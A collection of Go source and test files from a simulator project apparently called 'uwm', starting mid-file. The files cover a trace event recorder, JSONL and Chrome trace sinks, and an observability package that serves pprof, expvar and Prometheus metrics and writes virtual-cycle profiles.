		t.Error("filter wrong")
	}
	r.Reset()
	if len(r.Events()) != 0 {
		t.Error("reset did not clear")
	}
}

func TestRecorderLimit(t *testing.T) {
	r := NewRecorder(3)
	for i := 0; i < 10; i++ {
		r.Record(Event{Kind: KindCommit})
	}
	if len(r.Events()) != 3 || r.Dropped() != 7 {
		t.Errorf("events=%d dropped=%d", len(r.Events()), r.Dropped())
	}
	r.Reset()
	if r.Dropped() != 0 {
		t.Error("reset did not clear dropped count")
	}
}

func TestDisabledRecorderDrops(t *testing.T) {
	var r Recorder // zero value: disabled
	r.Record(Event{Kind: KindCommit})
	if len(r.Events()) != 0 {
		t.Error("disabled recorder stored an event")
	}
	r.SetEnabled(true)
	r.Record(Event{Kind: KindCommit})
	if len(r.Events()) != 1 {
		t.Error("enabled recorder dropped an event")
	}
}

func TestNilRecorderSafe(t *testing.T) {
	var r *Recorder
	r.Record(Event{Kind: KindCommit}) // must not panic
	if r.Enabled() || r.Events() != nil || r.Dropped() != 0 {
		t.Error("nil recorder misbehaved")
	}
	r.Reset() // must not panic
}

func TestEventString(t *testing.T) {
	e := Event{Kind: KindMemWrite, Cycle: 12, PC: 0x40, Addr: 0x80, Value: 9, Text: "x"}
	s := e.String()
	for _, want := range []string{"mem-write", "12", "0x40", "0x80"} {
		if !strings.Contains(s, want) {
			t.Errorf("event string %q missing %q", s, want)
		}
	}
}
