package trace

import (
	"strings"
	"testing"
)

// kindTable pins down every declared kind's name and plane. Adding a
// kind without extending this table — or without updating String() and
// the plane boundary — fails TestKindsExhaustive.
var kindTable = []struct {
	kind Kind
	name string
	arch bool
}{
	{KindCommit, "commit", true},
	{KindRegWrite, "reg-write", true},
	{KindMemWrite, "mem-write", true},
	{KindTxBegin, "tx-begin", true},
	{KindTxEnd, "tx-end", true},
	{KindTxAbort, "tx-abort", true},
	{KindSpecStart, "spec-start", false},
	{KindSpecExec, "spec-exec", false},
	{KindSpecEnd, "spec-end", false},
	{KindCacheFill, "cache-fill", false},
	{KindCacheEvict, "cache-evict", false},
	{KindCacheFlush, "cache-flush", false},
	{KindTimedRead, "timed-read", false},
	{KindNoise, "noise", false},
	{KindSpanBegin, "span-begin", false},
	{KindSpanEnd, "span-end", false},
	{KindCalibration, "calibration", false},
	{KindAnnotation, "annotation", false},
}

func TestKindsExhaustive(t *testing.T) {
	all := AllKinds()
	if len(all) != len(kindTable) {
		t.Fatalf("AllKinds() has %d kinds, test table has %d — extend both when adding a kind",
			len(all), len(kindTable))
	}
	for i, row := range kindTable {
		if all[i] != row.kind {
			t.Errorf("AllKinds()[%d] = %v, want %v (declaration order)", i, all[i], row.kind)
		}
		if got := row.kind.String(); got != row.name {
			t.Errorf("%v.String() = %q, want %q", uint8(row.kind), got, row.name)
		}
		if got := row.kind.Architectural(); got != row.arch {
			t.Errorf("%v.Architectural() = %v, want %v — plane boundary out of date", row.name, got, row.arch)
		}
	}
	// Every declared kind must have a real name: a new kind that falls
	// through String()'s switch renders as "kind(N)" and fails here.
	for _, k := range all {
		if s := k.String(); s == "" || strings.HasPrefix(s, "kind(") {
			t.Errorf("kind %d has no name", k)
		}
	}
	if !strings.HasPrefix(Kind(200).String(), "kind(") {
		t.Error("unknown kind should render numerically")
	}
}

func TestRecorderBasics(t *testing.T) {
	r := NewRecorder(0)
	r.Record(Event{Kind: KindCommit, Text: "nop"})
	r.Record(Event{Kind: KindCacheFill, Addr: 0x40})
	if len(r.Events()) != 2 {
		t.Fatalf("events = %d", len(r.Events()))
	}
	if got := r.Architectural(); len(got) != 1 || got[0].Kind != KindCommit {
		t.Errorf("architectural = %v", got)
	}
	if r.Count(KindCacheFill) != 1 || r.Count(KindMemWrite) != 0 {
		t.Error("counts wrong")
	}
	if f := r.Filter(KindCacheFill); len(f) != 1 || f[0].Addr != 0x40 {
		t.Error("filter wrong")
	}
	r.Reset()
	if len(r.Events()) != 0 {
		t.Error("reset did not clear")
	}
}

func TestRecorderLimitKeepsNewest(t *testing.T) {
	r := NewRecorder(3)
	for i := 0; i < 10; i++ {
		r.Record(Event{Kind: KindCommit, Cycle: int64(i)})
	}
	got := r.Events()
	if len(got) != 3 || r.Dropped() != 7 {
		t.Fatalf("events=%d dropped=%d, want 3/7", len(got), r.Dropped())
	}
	// Ring semantics: the newest tail (cycles 7,8,9) survives, in order.
	for i, want := range []int64{7, 8, 9} {
		if got[i].Cycle != want {
			t.Errorf("events[%d].Cycle = %d, want %d (oldest must be overwritten)", i, got[i].Cycle, want)
		}
	}
	r.Reset()
	if r.Dropped() != 0 || len(r.Events()) != 0 {
		t.Error("reset did not clear ring state")
	}
	// Refill after reset must behave like a fresh recorder.
	for i := 0; i < 4; i++ {
		r.Record(Event{Cycle: int64(100 + i)})
	}
	got = r.Events()
	if len(got) != 3 || got[0].Cycle != 101 || got[2].Cycle != 103 {
		t.Errorf("post-reset ring wrong: %v", got)
	}
}

func TestRecorderUnlimitedKeepsAll(t *testing.T) {
	r := NewRecorder(0)
	for i := 0; i < 100; i++ {
		r.Record(Event{Cycle: int64(i)})
	}
	if len(r.Events()) != 100 || r.Dropped() != 0 {
		t.Errorf("unlimited recorder: events=%d dropped=%d", len(r.Events()), r.Dropped())
	}
}

func TestDisabledRecorderDrops(t *testing.T) {
	var r Recorder // zero value: disabled
	r.Record(Event{Kind: KindCommit})
	if len(r.Events()) != 0 {
		t.Error("disabled recorder stored an event")
	}
	r.SetEnabled(true)
	r.Record(Event{Kind: KindCommit})
	if len(r.Events()) != 1 {
		t.Error("enabled recorder dropped an event")
	}
}

func TestNilRecorderSafe(t *testing.T) {
	var r *Recorder
	r.Record(Event{Kind: KindCommit}) // must not panic
	if r.Enabled() || r.Events() != nil || r.Dropped() != 0 {
		t.Error("nil recorder misbehaved")
	}
	r.Reset() // must not panic
}

func TestEventString(t *testing.T) {
	e := Event{Kind: KindMemWrite, Cycle: 12, PC: 0x40, Addr: 0x80, Value: 9, Text: "x"}
	s := e.String()
	for _, want := range []string{"mem-write", "12", "0x40", "0x80"} {
		if !strings.Contains(s, want) {
			t.Errorf("event string %q missing %q", s, want)
		}
	}
}

func TestParseKindRoundTrip(t *testing.T) {
	for _, k := range AllKinds() {
		got, ok := ParseKind(k.String())
		if !ok || got != k {
			t.Errorf("ParseKind(%q) = %v, %v; want %v, true", k.String(), got, ok, k)
		}
	}
	if _, ok := ParseKind("no-such-kind"); ok {
		t.Error("ParseKind accepted an unknown name")
	}
	if _, ok := ParseKind(""); ok {
		t.Error("ParseKind accepted the empty string")
	}
}
