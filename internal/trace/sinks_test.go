package trace

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestEnabled(t *testing.T) {
	if Enabled(nil) {
		t.Error("nil sink reported enabled")
	}
	r := NewRecorder(0)
	if !Enabled(r) {
		t.Error("live recorder reported disabled")
	}
	r.SetEnabled(false)
	if Enabled(r) {
		t.Error("toggled-off recorder reported enabled")
	}
	if !Enabled(NewJSONLSink(&bytes.Buffer{})) {
		t.Error("file sink reported disabled")
	}
}

func TestTee(t *testing.T) {
	if Tee() != nil || Tee(nil, nil) != nil {
		t.Error("empty Tee should collapse to nil")
	}
	r := NewRecorder(0)
	if Tee(nil, r) != Sink(r) {
		t.Error("single-sink Tee should return the sink itself")
	}
	r2 := NewRecorder(0)
	tee := Tee(r, r2)
	tee.Emit(Event{Kind: KindCommit})
	if len(r.Events()) != 1 || len(r2.Events()) != 1 {
		t.Error("Tee did not fan out")
	}
	r.SetEnabled(false)
	if !Enabled(tee) {
		t.Error("Tee with one live sink reported disabled")
	}
	r2.SetEnabled(false)
	if Enabled(tee) {
		t.Error("Tee with no live sink reported enabled")
	}
}

func TestJSONLSink(t *testing.T) {
	var buf bytes.Buffer
	s := NewJSONLSink(&buf)
	s.Emit(Event{Kind: KindCommit, Cycle: 10, PC: 0x40, Text: "nop"})
	s.Emit(Event{Kind: KindCacheFill, Cycle: 12, Addr: 0x108000, Value: 224})
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 || s.Count() != 2 {
		t.Fatalf("got %d lines, count %d", len(lines), s.Count())
	}
	var first map[string]any
	if err := json.Unmarshal([]byte(lines[0]), &first); err != nil {
		t.Fatalf("line 0 is not JSON: %v", err)
	}
	if first["kind"] != "commit" || first["plane"] != "arch" || first["cycle"] != float64(10) {
		t.Errorf("line 0 = %v", first)
	}
	var second map[string]any
	if err := json.Unmarshal([]byte(lines[1]), &second); err != nil {
		t.Fatal(err)
	}
	if second["plane"] != "uarch" || second["value"] != float64(224) {
		t.Errorf("line 1 = %v", second)
	}
}

// chromeEvents decodes a trace_event document and returns its events.
func chromeEvents(t *testing.T, data []byte) []map[string]any {
	t.Helper()
	var doc struct {
		TraceEvents []map[string]any `json:"traceEvents"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("chrome trace is not valid JSON: %v\n%s", err, data)
	}
	return doc.TraceEvents
}

func TestChromeSinkSpans(t *testing.T) {
	var buf bytes.Buffer
	s := NewChromeSink(&buf)
	// A TSX region containing a spec window, then a cache fill.
	s.Emit(Event{Kind: KindTxBegin, Cycle: 100, PC: 0x400})
	s.Emit(Event{Kind: KindSpecStart, Cycle: 110, Value: 160})
	s.Emit(Event{Kind: KindSpecExec, Cycle: 110, PC: 0x404, Text: "load r1, in_a"})
	s.Emit(Event{Kind: KindCacheFill, Cycle: 115, Addr: 0x108000, Value: 224})
	s.Emit(Event{Kind: KindSpecEnd, Cycle: 110, Value: 3})
	s.Emit(Event{Kind: KindTxAbort, Cycle: 300})
	s.Emit(Event{Kind: KindCommit, Cycle: 310, PC: 0x440, Text: "halt"})
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	evs := chromeEvents(t, buf.Bytes())

	find := func(name string) map[string]any {
		for _, e := range evs {
			if e["name"] == name {
				return e
			}
		}
		return nil
	}
	spec := find("spec-window")
	if spec == nil {
		t.Fatal("no spec-window slice")
	}
	if spec["ph"] != "X" || spec["dur"] != float64(160) || spec["ts"] != float64(110) {
		t.Errorf("spec-window = %v", spec)
	}
	tsx := find("tsx-region")
	if tsx == nil {
		t.Fatal("no tsx-region slice")
	}
	if tsx["ph"] != "X" || tsx["ts"] != float64(100) || tsx["dur"] != float64(200) {
		t.Errorf("tsx-region = %v", tsx)
	}
	if args, _ := tsx["args"].(map[string]any); args["outcome"] != "abort" {
		t.Errorf("tsx args = %v", tsx["args"])
	}
	fill := find("cache-fill")
	if fill == nil || fill["ph"] != "i" || fill["cat"] != "uarch" {
		t.Errorf("cache-fill = %v", fill)
	}
	commit := find("commit")
	if commit == nil || commit["cat"] != "arch" {
		t.Errorf("commit = %v", commit)
	}
}

func TestChromeSinkSpanPairs(t *testing.T) {
	var buf bytes.Buffer
	s := NewChromeSink(&buf)
	// A gate frame containing a component frame, plus an end whose begin
	// was truncated away (ring-buffer recording) and carries its own name.
	s.Emit(Event{Kind: KindSpanBegin, Cycle: 100, Value: 1, Addr: 0, Text: "gate:TSX_AND"})
	s.Emit(Event{Kind: KindSpanBegin, Cycle: 110, Value: 2, Addr: 1, Text: "cpu:fire"})
	s.Emit(Event{Kind: KindSpanEnd, Cycle: 150, Value: 2, Text: "cpu:fire"})
	s.Emit(Event{Kind: KindSpanEnd, Cycle: 200, Value: 1, Text: "gate:TSX_AND"})
	s.Emit(Event{Kind: KindSpanEnd, Cycle: 210, Value: 99, Text: "gate:lost"})
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	evs := chromeEvents(t, buf.Bytes())

	type be struct{ b, e bool }
	got := map[string]*be{}
	for _, ev := range evs {
		ph, _ := ev["ph"].(string)
		if ph != "B" && ph != "E" {
			continue
		}
		name, _ := ev["name"].(string)
		p := got[name]
		if p == nil {
			p = &be{}
			got[name] = p
		}
		if ph == "B" {
			p.b = true
			if name == "cpu:fire" {
				if args, _ := ev["args"].(map[string]any); args["parent"] != float64(1) {
					t.Errorf("cpu:fire begin args = %v, want parent=1", ev["args"])
				}
			}
		} else {
			p.e = true
		}
	}
	for _, name := range []string{"gate:TSX_AND", "cpu:fire"} {
		if p := got[name]; p == nil || !p.b || !p.e {
			t.Errorf("span %q missing B/E pair: %+v", name, p)
		}
	}
	// The orphaned end still renders, named from its own payload.
	if p := got["gate:lost"]; p == nil || !p.e {
		t.Error("orphaned span-end was dropped or anonymous")
	}
}

func TestChromeSinkCommittedTx(t *testing.T) {
	var buf bytes.Buffer
	s := NewChromeSink(&buf)
	s.Emit(Event{Kind: KindTxBegin, Cycle: 10})
	s.Emit(Event{Kind: KindTxEnd, Cycle: 40})
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	for _, e := range chromeEvents(t, buf.Bytes()) {
		if e["name"] == "tsx-region" {
			if args, _ := e["args"].(map[string]any); args["outcome"] != "commit" {
				t.Errorf("outcome = %v", args["outcome"])
			}
			return
		}
	}
	t.Fatal("no tsx-region for committed transaction")
}

func TestFileSinkSelection(t *testing.T) {
	dir := t.TempDir()

	jl := filepath.Join(dir, "run.jsonl")
	s, c, err := FileSink(jl)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := s.(*JSONLSink); !ok {
		t.Errorf(".jsonl selected %T", s)
	}
	s.Emit(Event{Kind: KindCommit})
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(jl)
	if err != nil || len(data) == 0 {
		t.Fatalf("jsonl file empty: %v", err)
	}

	cj := filepath.Join(dir, "run.json")
	s, c, err = FileSink(cj)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := s.(*ChromeSink); !ok {
		t.Errorf(".json selected %T", s)
	}
	s.Emit(Event{Kind: KindCommit, Cycle: 1})
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	data, err = os.ReadFile(cj)
	if err != nil {
		t.Fatal(err)
	}
	if evs := chromeEvents(t, data); len(evs) == 0 {
		t.Error("chrome trace has no events")
	}
}

// BenchmarkRecorderDisabled guards the disabled-path overhead of the
// satellite requirement: emitting through a nil or toggled-off sink
// must cost ~zero and allocate nothing.
func BenchmarkRecorderDisabled(b *testing.B) {
	r := NewRecorder(0)
	r.SetEnabled(false)
	e := Event{Kind: KindCacheFill, Cycle: 1, Addr: 0x40}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r.Record(e)
	}
}

func TestDisabledRecorderZeroAlloc(t *testing.T) {
	r := NewRecorder(0)
	r.SetEnabled(false)
	e := Event{Kind: KindCacheFill, Cycle: 1, Addr: 0x40}
	if allocs := testing.AllocsPerRun(1000, func() { r.Record(e) }); allocs != 0 {
		t.Errorf("disabled recorder allocated %v/op, want 0", allocs)
	}
	var nilSink Sink
	if allocs := testing.AllocsPerRun(1000, func() {
		if Enabled(nilSink) {
			nilSink.Emit(e)
		}
	}); allocs != 0 {
		t.Errorf("nil sink path allocated %v/op, want 0", allocs)
	}
}
