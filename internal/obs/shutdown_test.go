package obs

import (
	"net"
	"net/http"
	"testing"
)

// TestCloseReleasesPprofPort checks the graceful-shutdown path: after
// Close returns, the debug listener's port must be immediately
// bindable again (back-to-back runs with a fixed -pprof address must
// not race the old listener), and the endpoint must stop answering.
func TestCloseReleasesPprofPort(t *testing.T) {
	sess, err := Start(Config{PprofAddr: "127.0.0.1:0"})
	if err != nil {
		t.Fatal(err)
	}
	addr := sess.Addr()
	if addr == "" {
		t.Fatal("session has no debug address")
	}
	resp, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		t.Fatalf("pre-close scrape: %v", err)
	}
	resp.Body.Close()

	if err := sess.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatalf("port %s not released after Close: %v", addr, err)
	}
	ln.Close()

	if _, err := http.Get("http://" + addr + "/metrics"); err == nil {
		t.Error("debug endpoint still answering after Close")
	}
}

// TestCloseTwiceAfterServe guards the idempotence of Close on the
// serving path (the first call shuts the server down, the second must
// be a no-op, not a double-close error).
func TestCloseTwiceAfterServe(t *testing.T) {
	sess, err := Start(Config{PprofAddr: "127.0.0.1:0"})
	if err != nil {
		t.Fatal(err)
	}
	if err := sess.Close(); err != nil {
		t.Fatalf("first Close: %v", err)
	}
	if err := sess.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}
}
