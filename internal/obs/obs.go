// Package obs wires the observability surface shared by every uwm
// binary: a -metrics flag that prints the session's metric registry in
// Prometheus text exposition at exit, a -trace-out flag that streams
// the two-plane event trace to a JSONL or Chrome trace_event file, and
// a -pprof flag that serves net/http/pprof, expvar and a live /metrics
// endpoint while the run is in flight, and a -cycleprof flag that
// attributes the run's *virtual* cycles to profiling spans and writes a
// pprof or folded-stack profile at exit.
//
// The intended shape in a main:
//
//	var cfg obs.Config
//	cfg.AddFlags(flag.CommandLine)
//	flag.Parse()
//	sess, err := obs.Start(cfg)
//	// pass sess.Registry and sess.Sink into core.Options
//	defer sess.Close()
//
// Close flushes and closes the trace file and, when -metrics was set,
// writes the exposition to stdout. A zero Config yields a session whose
// Registry and Sink are nil, which every instrumented layer treats as
// "observability off" at zero cost.
package obs

import (
	"context"
	"expvar"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/pprof"
	"os"
	"runtime"
	"runtime/debug"
	"strings"
	"time"

	"uwm/internal/metrics"
	"uwm/internal/trace"
	"uwm/internal/vprof"
)

// Config selects which observability surfaces a run exposes.
type Config struct {
	// Metrics prints the Prometheus text exposition to stdout at Close.
	Metrics bool
	// TraceOut streams trace events to this file; a .jsonl/.ndjson
	// suffix selects line-delimited JSON, anything else the Chrome
	// trace_event format Perfetto loads.
	TraceOut string
	// PprofAddr serves /debug/pprof, /debug/vars and /metrics on this
	// address for the lifetime of the run. Live /metrics scrapes read
	// the single-threaded simulator's counters without stopping it, so
	// mid-run values are monotonic approximations; the exit exposition
	// (-metrics) is exact.
	PprofAddr string
	// CycleProf attributes the run's virtual cycles to span frames and
	// writes the profile to this file at Close. A .folded/.txt suffix
	// selects folded flamegraph stacks, anything else a gzip pprof
	// profile.proto for `go tool pprof`.
	CycleProf string
}

// AddFlags registers the shared observability flags on fs.
func (c *Config) AddFlags(fs *flag.FlagSet) {
	fs.BoolVar(&c.Metrics, "metrics", false, "print Prometheus text metrics to stdout at exit")
	fs.StringVar(&c.TraceOut, "trace-out", "", "stream the event trace to this file (.jsonl = JSON lines, else Chrome trace_event JSON for Perfetto)")
	fs.StringVar(&c.PprofAddr, "pprof", "", "serve net/http/pprof, expvar and /metrics on this address (e.g. localhost:6060)")
	fs.StringVar(&c.CycleProf, "cycleprof", "", "write a virtual-cycle profile to this file at exit (.folded/.txt = flamegraph stacks, else gzip pprof profile.proto)")
}

// Enabled reports whether any observability surface was requested.
func (c Config) Enabled() bool {
	return c.Metrics || c.TraceOut != "" || c.PprofAddr != "" || c.CycleProf != ""
}

// Session is a started observability context. Registry and Sink are
// nil when the corresponding surface is off — pass them to
// core.Options (or cpu setters) unconditionally.
type Session struct {
	Registry *metrics.Registry
	Sink     trace.Sink

	cfg     Config
	out     io.Writer // exposition destination, stdout by default
	traceCl io.Closer
	prof    *vprof.Profiler
	srv     *http.Server
	ln      net.Listener
	traceN  func() int
	closed  bool
}

// Profiler returns the live cycle profiler, or nil when -cycleprof is
// off.
func (s *Session) Profiler() *vprof.Profiler { return s.prof }

// BuildInfo identifies the running binary: the module version, the Go
// toolchain it was built with, and the VCS revision stamped into the
// build, when available.
type BuildInfo struct {
	Version   string `json:"version"`
	GoVersion string `json:"go_version"`
	GitSHA    string `json:"git_sha"`
}

// CurrentBuild reads the binary's embedded build metadata. Test
// binaries and plain `go build` trees without VCS stamping degrade to
// "devel"/"unknown" rather than failing.
func CurrentBuild() BuildInfo {
	bi := BuildInfo{Version: "devel", GoVersion: runtime.Version(), GitSHA: "unknown"}
	info, ok := debug.ReadBuildInfo()
	if !ok {
		return bi
	}
	if v := info.Main.Version; v != "" && v != "(devel)" {
		bi.Version = v
	}
	for _, s := range info.Settings {
		if s.Key == "vcs.revision" && s.Value != "" {
			bi.GitSHA = s.Value
		}
	}
	return bi
}

// AddVersionFlag registers the -version flag on fs and returns its
// value pointer. Every uwm binary wires it the same way: when set, the
// main prints PrintVersion to stdout and exits 0 before doing any work.
func AddVersionFlag(fs *flag.FlagSet) *bool {
	return fs.Bool("version", false, "print build identity (version, go version, git sha) and exit")
}

// PrintVersion writes the binary's build identity in one line, field
// names matching the uwm_build_info metric labels so log greps and
// PromQL joins read the same keys.
func PrintVersion(w io.Writer, name string) {
	bi := CurrentBuild()
	fmt.Fprintf(w, "%s version=%s go_version=%s git_sha=%s\n",
		name, bi.Version, bi.GoVersion, bi.GitSHA)
}

// MetricBuildInfo is the build-identity gauge every binary's /metrics
// carries; its constant value 1 makes the labels joinable in PromQL
// (`something * on () group_left (git_sha) uwm_build_info`).
const MetricBuildInfo = "uwm_build_info"

// RegisterBuildInfo exposes the uwm_build_info gauge on reg and returns
// the build identity it recorded. Safe on a nil registry.
func RegisterBuildInfo(reg *metrics.Registry) BuildInfo {
	bi := CurrentBuild()
	reg.Gauge(MetricBuildInfo,
		"build identity of this binary (value is constant 1)",
		metrics.L("version", bi.Version),
		metrics.L("go_version", bi.GoVersion),
		metrics.L("git_sha", bi.GitSHA)).Set(1)
	return bi
}

// Start opens the requested surfaces: the registry (for -metrics and
// -pprof), the trace file sink, and the debug HTTP listener.
func Start(cfg Config) (*Session, error) {
	s := &Session{cfg: cfg, out: os.Stdout}
	if cfg.Metrics || cfg.PprofAddr != "" {
		s.Registry = metrics.NewRegistry()
		RegisterBuildInfo(s.Registry)
	}
	if cfg.TraceOut != "" {
		sink, closer, err := trace.FileSink(cfg.TraceOut)
		if err != nil {
			return nil, fmt.Errorf("obs: %w", err)
		}
		s.Sink = sink
		s.traceCl = closer
		if c, ok := sink.(interface{ Count() int }); ok {
			s.traceN = c.Count
		}
	}
	if cfg.CycleProf != "" {
		s.prof = vprof.New()
		s.Sink = trace.Tee(s.Sink, s.prof)
	}
	if cfg.PprofAddr != "" {
		if err := s.serve(cfg.PprofAddr); err != nil {
			s.Close()
			return nil, err
		}
	}
	return s, nil
}

// serve starts the debug HTTP endpoint. Listening synchronously makes
// a bad address an immediate error instead of a background log line.
func (s *Session) serve(addr string) error {
	mux := http.NewServeMux()
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	mux.Handle("/debug/vars", expvar.Handler())
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4")
		s.Registry.WriteText(w)
	})
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return fmt.Errorf("obs: pprof listener: %w", err)
	}
	s.ln = ln
	s.srv = &http.Server{Handler: mux}
	go s.srv.Serve(ln)
	fmt.Fprintf(os.Stderr, "obs: serving pprof/expvar/metrics on http://%s/\n", ln.Addr())
	return nil
}

// SetOutput redirects the -metrics exposition away from stdout.
func (s *Session) SetOutput(w io.Writer) { s.out = w }

// Addr returns the debug HTTP address, or "" when -pprof is off.
func (s *Session) Addr() string {
	if s.ln == nil {
		return ""
	}
	return s.ln.Addr().String()
}

// Close flushes the trace file, stops the debug server and, when
// -metrics was requested, writes the text exposition. Safe to call
// more than once; only the first call does work.
func (s *Session) Close() error {
	if s == nil || s.closed {
		return nil
	}
	s.closed = true
	var first error
	if s.traceCl != nil {
		if err := s.traceCl.Close(); err != nil && first == nil {
			first = err
		}
		if s.traceN != nil {
			fmt.Fprintf(os.Stderr, "obs: wrote %d trace events to %s\n", s.traceN(), s.cfg.TraceOut)
		}
	}
	if s.prof != nil {
		if err := s.writeCycleProf(); err != nil {
			if first == nil {
				first = err
			}
		} else {
			fmt.Fprintf(os.Stderr, "obs: wrote virtual-cycle profile (%d cycles, %d frames) to %s\n",
				s.prof.TotalCycles(), s.prof.Frames(), s.cfg.CycleProf)
		}
	}
	if s.srv != nil {
		// Drain rather than sever: Shutdown stops the listener first
		// (releasing the port for the next run immediately) and then
		// lets in-flight scrapes — a Prometheus pull of /metrics, a
		// pprof profile download — finish before returning. The
		// deadline bounds a scrape that never completes; past it the
		// hard Close severs whatever is left.
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
		err := s.srv.Shutdown(ctx)
		cancel()
		if err != nil {
			err = s.srv.Close()
		}
		if err != nil && first == nil {
			first = err
		}
	}
	if s.cfg.Metrics && s.Registry != nil {
		if err := s.Registry.WriteText(s.out); err != nil && first == nil {
			first = err
		}
	}
	return first
}

// writeCycleProf renders the accumulated cycle profile to the
// -cycleprof file, picking the format from the extension.
func (s *Session) writeCycleProf() error {
	f, err := os.Create(s.cfg.CycleProf)
	if err != nil {
		return fmt.Errorf("obs: cycleprof: %w", err)
	}
	switch {
	case strings.HasSuffix(s.cfg.CycleProf, ".folded"),
		strings.HasSuffix(s.cfg.CycleProf, ".txt"):
		err = s.prof.WriteFolded(f)
	default:
		err = s.prof.WritePprof(f)
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		return fmt.Errorf("obs: cycleprof: %w", err)
	}
	return nil
}
