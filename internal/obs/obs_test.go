package obs

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"uwm/internal/trace"
)

func TestDisabledSession(t *testing.T) {
	sess, err := Start(Config{})
	if err != nil {
		t.Fatal(err)
	}
	if sess.Registry != nil || sess.Sink != nil {
		t.Errorf("zero config opened surfaces: %+v", sess)
	}
	if err := sess.Close(); err != nil {
		t.Errorf("close: %v", err)
	}
	if cfg := (Config{}); cfg.Enabled() {
		t.Error("zero config reports Enabled")
	}
}

func TestMetricsAndTraceSession(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.jsonl")
	sess, err := Start(Config{Metrics: true, TraceOut: path})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	sess.SetOutput(&buf)

	sess.Registry.Counter("uwm_obs_test_total", "test counter").Add(3)
	sess.Sink.Emit(trace.Event{Cycle: 5, Kind: trace.KindCommit, Text: "nop"})

	if err := sess.Close(); err != nil {
		t.Fatal(err)
	}
	if err := sess.Close(); err != nil { // idempotent
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "uwm_obs_test_total 3") {
		t.Errorf("exposition missing counter:\n%s", buf.String())
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var obj map[string]any
	if err := json.Unmarshal(bytes.TrimSpace(data), &obj); err != nil {
		t.Fatalf("trace line not JSON: %v\n%s", err, data)
	}
	if obj["kind"] != "commit" {
		t.Errorf("unexpected trace line: %v", obj)
	}
}

func TestCycleProfSession(t *testing.T) {
	emitSpans := func(s trace.Sink) {
		s.Emit(trace.Event{Kind: trace.KindSpanBegin, Cycle: 10, Value: 1, Text: "gate:AND"})
		s.Emit(trace.Event{Kind: trace.KindSpanEnd, Cycle: 40, Value: 1, Text: "gate:AND"})
		s.Emit(trace.Event{Kind: trace.KindCommit, Cycle: 50})
	}

	t.Run("folded", func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "cycles.folded")
		sess, err := Start(Config{CycleProf: path})
		if err != nil {
			t.Fatal(err)
		}
		if sess.Sink == nil || sess.Profiler() == nil {
			t.Fatal("cycleprof session has no sink/profiler")
		}
		emitSpans(sess.Sink)
		if err := sess.Close(); err != nil {
			t.Fatal(err)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		want := "program 20\nprogram;gate:AND 30\n"
		if string(data) != want {
			t.Errorf("folded profile = %q, want %q", data, want)
		}
	})

	t.Run("pprof-plus-trace", func(t *testing.T) {
		dir := t.TempDir()
		prof := filepath.Join(dir, "cycles.pb.gz")
		tr := filepath.Join(dir, "out.jsonl")
		sess, err := Start(Config{CycleProf: prof, TraceOut: tr})
		if err != nil {
			t.Fatal(err)
		}
		emitSpans(sess.Sink)
		if err := sess.Close(); err != nil {
			t.Fatal(err)
		}
		gz, err := os.ReadFile(prof)
		if err != nil {
			t.Fatal(err)
		}
		if len(gz) < 2 || gz[0] != 0x1f || gz[1] != 0x8b {
			t.Errorf("pprof profile not gzip: %x", gz[:min(len(gz), 4)])
		}
		// The tee must still have fed the trace file.
		lines, err := os.ReadFile(tr)
		if err != nil {
			t.Fatal(err)
		}
		if n := bytes.Count(bytes.TrimSpace(lines), []byte("\n")) + 1; n != 3 {
			t.Errorf("trace file has %d lines, want 3", n)
		}
	})
}

func TestPprofServesMetrics(t *testing.T) {
	sess, err := Start(Config{PprofAddr: "127.0.0.1:0"})
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()
	sess.Registry.Gauge("uwm_obs_live", "live gauge").Set(7)

	resp, err := http.Get("http://" + sess.Addr() + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(body), "uwm_obs_live 7") {
		t.Errorf("/metrics missing gauge:\n%s", body)
	}

	resp, err = http.Get("http://" + sess.Addr() + "/debug/vars")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("/debug/vars status %d", resp.StatusCode)
	}
}
