package obs

import (
	"fmt"
	"strings"
	"testing"

	"uwm/internal/metrics"
)

func TestCurrentBuildDegradesGracefully(t *testing.T) {
	bi := CurrentBuild()
	// A test binary has no VCS stamp or release version; the fields must
